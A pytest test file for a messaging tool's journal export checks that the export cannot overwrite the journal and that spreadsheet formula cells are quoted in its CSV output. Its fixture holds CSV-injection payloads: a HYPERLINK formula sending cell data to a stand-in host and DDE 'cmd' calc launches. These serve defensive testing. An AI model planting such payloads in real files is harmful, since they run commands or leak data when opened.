"""``journal export`` cannot destroy the journal, and its CSV is safe to open in a spreadsheet.

Before: ``journal export ID -o JOURNAL`` truncated the journal it was reading
(exit 3, 142 bytes left of it), and cells such as ``=HYPERLINK(...)`` from a
recipient file opened as live formulas.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
from pathlib import Path

import pytest

from broadcastio import DeliveryResult, Message
from broadcastio.broadcast import Journal, RecipientState, RecipientTask

BROADCAST = "spring"

# (recipient, error message): what a recipient file and a provider can put in a journal.
ROWS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "+dial me"),
    ("-2+3", "\t=1+1"),
    ("+15551234567", "-"),
    ("-7", "\r=1"),
    ("plain", "All good"),
]


@pytest.fixture
def journal(tmp_path: Path) -> Path:
    path = tmp_path / "journal.sqlite"
    with Journal(path) as opened:
        run = opened.begin_run(BROADCAST)
        messages = [Message(recipient, "hi") for recipient, _ in ROWS]
        opened.admit(BROADCAST, run, list(enumerate(messages)))
        tasks = [RecipientTask(BROADCAST, run, n, m) for n, m in enumerate(messages)]
        opened.mark_in_flight(tasks)
        for task, (_, error) in zip(tasks, ROWS, strict=True):
            result = DeliveryResult.failed("dummy", "INVALID_RECIPIENT", error)
            opened.record_outcome(task, RecipientState.FAILED, result)
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("target", ["journal", "symlink", "hardlink", "wal"])
def test_export_refuses_to_write_over_the_journal(
    journal: Path, tmp_path: Path, run_script, target: str
) -> None:
    before = digest(journal)
    output = {
        "journal": journal,
        "symlink": tmp_path / "export.csv",
        "hardlink": tmp_path / "copy.sqlite",
        "wal": journal.with_name(journal.name + "-wal"),
    }[target]
    if target == "symlink":
        output.symlink_to(journal)
    elif target == "hardlink":
        os.link(journal, output)
    elif target == "wal":
        # A reader keeps the -wal file around while the journal is open; make one.
        output.write_bytes(b"")
    result = run_script("journal", "export", BROADCAST, "--journal", str(journal),
                        "-o", str(output))  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "is the same file as" in result.stderr and "Traceback" not in result.stderr
    assert digest(journal) == before
    listed = run_script("journal", "list", "--journal", str(journal), "--json")
    assert [item["broadcast_id"] for item in json.loads(listed.stdout)] == [BROADCAST]


def test_the_read_only_commands_do_not_write_the_journal(journal: Path, run_script) -> None:
    before = digest(journal)
    stamp = journal.stat().st_mtime_ns
    for command in (("list",), ("show", BROADCAST), ("export", BROADCAST)):
        result = run_script("journal", *command, "--journal", str(journal))
        assert result.returncode == 0, result.stderr
    assert digest(journal) == before and journal.stat().st_mtime_ns == stamp


def test_export_replaces_the_output_whole(journal: Path, tmp_path: Path, run_script) -> None:
    output = tmp_path / "spring.csv"
    output.write_text("an older export\n" * 1000)
    output.chmod(0o640)
    result = run_script("journal", "export", BROADCAST, "--journal", str(journal),
                        "-o", str(output))  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(output.open(newline="")))
    assert len(rows) == len(ROWS)
    assert output.stat().st_mode & 0o777 == 0o640  # the output keeps its permissions
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".spring")] == []


def test_csv_cells_that_would_run_as_formulas_get_a_quote(
    journal: Path, tmp_path: Path, run_script
) -> None:
    output = tmp_path / "spring.csv"  # a file, read with newline="": a CR stays a CR
    result = run_script("journal", "export", BROADCAST, "--journal", str(journal),
                        "-o", str(output))  # fmt: skip
    assert result.returncode == 0, result.stderr
    with output.open(newline="") as file:
        exported = {row["reference_id"]: row for row in csv.DictReader(file)}
    with Journal(journal, read_only=True) as opened:
        by_recipient = {row.recipient: row.reference_id for row in opened.rows(BROADCAST)}
    cells = {recipient: exported[by_recipient[recipient]] for recipient, _ in ROWS}
    assert cells[ROWS[0][0]]["recipient"] == "'" + ROWS[0][0]
    assert cells[ROWS[0][0]]["error_message"] == "'" + ROWS[0][1]
    assert cells[ROWS[1][0]]["recipient"] == "'" + ROWS[1][0]
    assert cells[ROWS[1][0]]["error_message"] == "'+dial me"
    assert cells[ROWS[2][0]]["error_message"] == "'\t=1+1"
    assert cells[ROWS[4][0]]["error_message"] == "'\r=1"
    # Plain numbers cannot call anything: phone numbers stay as they are.
    assert cells["+15551234567"]["recipient"] == "+15551234567"
    assert cells["-7"]["recipient"] == "-7"
    assert cells["plain"]["error_message"] == "All good"
    # The JSON output is data, not a spreadsheet: unchanged.
    shown = run_script("journal", "show", BROADCAST, "--journal", str(journal), "--json")
    recipients = {row["recipient"] for row in json.loads(shown.stdout)["rows"]}
    assert recipients == {recipient for recipient, _ in ROWS}
